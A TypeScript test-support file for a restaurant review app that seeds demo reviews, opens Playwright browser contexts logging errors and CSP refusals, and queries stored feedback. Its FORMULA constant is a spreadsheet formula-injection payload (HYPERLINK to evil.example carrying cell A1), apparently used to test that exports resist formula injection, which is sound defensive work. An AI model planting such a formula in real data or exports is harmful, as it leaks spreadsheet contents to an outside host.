/** The demo restaurant with its four weeks behind it, a guest who waits and one whose words look like formulas, for whoever reads its figures. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { and, eq, sql, type SQL } from 'drizzle-orm';
import type { BrowserContext, Page } from 'playwright-core';
import { feedback } from '#server/db/schema/index.ts';
import { DEMO_PASSWORD } from '#server/demo/restaurant.ts';
import { ingest } from '#server/flows/intake/ingest.ts';
import { newId } from '#server/system/ids.ts';
import { openChromium } from '#tests/support/browsers.ts';
import { type House, openHouse, signInCookie, type Stage } from './browser-kit.ts';

export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")';
export const FORMULA_WORDS = `${FORMULA}\n"Cold" soup, and nobody came`;

export type Visitors = AsyncDisposable & {
  /** What went wrong in any page: errors nobody caught, and refusals of the Content-Security-Policy. */
  readonly broken: readonly string[];
  /** A browser of its own for somebody without an account. */
  readonly visitor: (locale?: string) => Promise<BrowserContext>;
  /** A phone on which somebody is signed in. */
  readonly phoneOf: (who: { readonly origin: string; readonly email: string; readonly password: string }) => Promise<Page>;
};

export async function openVisitors(): Promise<Visitors> {
  const browser = await openChromium();
  const broken: string[] = [];
  const visitor = async (locale = 'en-GB') => {
    const context = await browser.newContext({
      viewport: { width: 390, height: 844 },
      locale,
      timezoneId: 'Europe/Prague',
      reducedMotion: 'reduce',
    });
    context.on('weberror', (error) => void broken.push(error.error().stack ?? error.error().message));
    context.on('console', (message) => {
      if (/Content Security Policy|TrustedScript|Trusted Type/i.test(message.text())) broken.push(message.text());
    });
    return context;
  };
  return {
    broken,
    visitor,
    async phoneOf({ origin, email, password }) {
      const context = await visitor();
      await context.addCookies([await signInCookie(origin, email, password)]);
      return context.newPage();
    },
    [Symbol.asyncDispose]: () => browser.close(),
  };
}

export type Measured = AsyncDisposable & {
  readonly house: House;
  readonly broken: readonly string[];
  readonly phoneOf: (email: string) => Promise<Page>;
  /** The item of the guest with the formulas. */
  readonly formula: string;
  /** Ids of what was said in [from, to) as the database knows them, past all our statistics; `where` in its own words. */
  readonly stored: (span: readonly [number, number], where?: SQL) => Promise<readonly string[]>;
};

export async function openMeasured(): Promise<Measured> {
  const [house, { broken, phoneOf, ...visitors }] = await Promise.all([openHouse(), openVisitors()]);
  const { businessId, owner } = house.restaurant;
  const formula = await writeReview(house, businessId, { minutesAgo: 50, author: FORMULA, text: FORMULA_WORDS });
  await owner.feedback.resolve({ id: formula, outside: true });
  await writeReview(house, businessId, { minutesAgo: 85, author: 'Guest 77', text: 'Nobody has answered me yet.' });
  return {
    house,
    broken,
    formula,
    phoneOf: (email) => phoneOf({ origin: house.origin, email, password: DEMO_PASSWORD }),
    async stored([from, to], where = sql`true`) {
      const told = sql`spoke_at >= ${from} and spoke_at < ${to}`;
      const rows = await house.app.parts.db.orm
        .select({ id: feedback.id })
        .from(feedback)
        .where(and(eq(feedback.businessId, businessId), told, where));
      return rows.map(({ id }) => id).sort();
    },
    async [Symbol.asyncDispose]() {
      await visitors[Symbol.asyncDispose]();
      await house[Symbol.asyncDispose]();
    },
  };
}

type Said = { readonly minutesAgo: number; readonly author: string; readonly text: string };

/** A bad review, as the platform hands it over; its id. */
export async function writeReview({ app }: Stage, businessId: string, { minutesAgo, author, text }: Said): Promise<string> {
  const { feedbackId } = await ingest(app.parts, {
    businessId,
    connectionId: '',
    complaintLinkId: null,
    item: {
      channel: 'google',
      kind: 'review',
      visibility: 'public',
      rating: 2,
      author,
      text,
      externalId: newId(),
      language: null,
      url: 'https://reviews.example/bistro',
      reach: null,
      placeLabel: 'Table 7',
      contact: '',
      spokeAt: app.parts.clock.now() - minutesAgo * 60_000,
      replyMode: 'link',
      replyUrl: null,
    },
  });
  return feedbackId;
}

/** Somebody else's site on this machine, one page of this markup. */
export async function pageOf(body: string): Promise<AsyncDisposable & { readonly origin: string }> {
  const server = createServer((_, response) => void response.setHeader('content-type', 'text/html').end(body));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}/`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
